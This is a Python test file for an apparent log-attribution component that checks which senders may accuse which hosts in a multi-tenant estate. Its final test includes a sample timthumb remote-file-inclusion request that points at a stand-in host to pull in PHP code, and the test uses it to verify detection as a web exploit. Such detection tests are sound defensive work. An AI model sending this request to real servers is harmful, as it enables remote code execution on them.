"""Who may accuse whom."""

import json

import pytest

from controller.domain.address import address_of
from controller.domain.estate import Estate, Site, Source, SourceFormat
from controller.domain.toml import read
from streams.accusing import Accuser, Said

NOW = 1_795_000_000_000_000_000
SITE = """
version = 1
name = "t"
prefixes = ["198.18.0.0/16"]
[[devices]]
name = "fw1"
platform = "linux_nftables"
host = "10.0.0.1"
exporter = "198.18.0.1"
[[hosts]]
name = "a1"
addresses = ["198.18.4.7"]
log_addresses = ["10.9.9.9"]
tenant = "a"
role = "vps"
[[hosts]]
name = "a2"
addresses = ["198.18.4.8"]
tenant = "a"
role = "vps"
[[hosts]]
name = "b1"
addresses = ["198.18.5.1"]
tenant = "b"
role = "vps"
"""
ANYONE = Source("cordon.syslog", SourceFormat.SYSLOG)
DROP = "kernel: drop IN=eth1 OUT=eth0 SRC={} DST=203.0.113.9 LEN=60 PROTO=TCP SPT=4000 DPT=445"


def said(text: str, sender: str, source: Source = ANYONE) -> Said:
    accuser = Accuser(Estate(read(SITE, Site, file="site.toml")))
    line = json.dumps({"msg": text, "fromhost-ip": sender})
    return accuser.frame(line.encode(), source=source, kafka_ns=NOW)


@pytest.mark.parametrize(
    ("sender", "accused", "counts"),
    [
        ("198.18.0.1", "198.18.4.7", True),  # the firewall, by the address it exports from
        ("10.0.0.1", "198.18.5.1", True),  # the firewall, by its management address
        ("198.18.4.7", "198.18.4.8", True),  # a tenant of its own
        ("10.9.9.9", "198.18.4.7", True),  # a tenant's logs from where the estate says they come
        ("198.18.4.7", "198.18.5.1", False),  # a tenant of somebody else
        ("198.18.0.1", "203.0.113.50", False),  # an attacker outside
    ],
)
def test_who_may_accuse_whom(sender: str, accused: str, counts: bool) -> None:
    assert bool(said(DROP.format(accused), sender).claims) is counts


def test_a_stranger_is_refused_and_counted() -> None:
    heard = said(DROP.format("198.18.4.7"), "192.0.2.1")
    assert [reject.reason for reject in heard.rejects] == ["unknown sender"]
    assert heard.claims == []


def test_a_source_that_names_its_senders_hears_nobody_else() -> None:
    source = Source("ids", SourceFormat.SYSLOG, exporters=(address_of("10.5.5.5"),))
    assert said(DROP.format("198.18.4.7"), "10.5.5.5", source).claims
    assert said(DROP.format("198.18.4.7"), "198.18.0.1", source).claims == []


def test_a_tenant_s_log_is_a_host_log_whatever_it_quotes() -> None:
    (claim,) = said(DROP.format("198.18.4.8"), "198.18.4.7").claims
    assert claim.witness == "host_log"


def test_a_symptom_belongs_to_a_device_and_a_tenant_cannot_make_one() -> None:
    text = "kernel: nf_conntrack: nf_conntrack: table full, dropping packet"
    assert [symptom.device for symptom in said(text, "198.18.0.1").symptoms] == ["fw1"]
    assert said(text, "198.18.4.7").symptoms == []


def test_an_exploit_request_accuses_the_server_whose_log_it_is() -> None:
    request = '"GET /timthumb.php?src=http://192.0.2.9/x.php HTTP/1.1" 200 1 "-" "x"'
    line = f"192.0.2.66 - - [20/Nov/2026:10:00:00 +0000] {request}"
    (claim,) = said(line, "198.18.4.7").claims
    assert (claim.detector, claim.peer, claim.compromise) == ("web_exploit", "192.0.2.66", True)
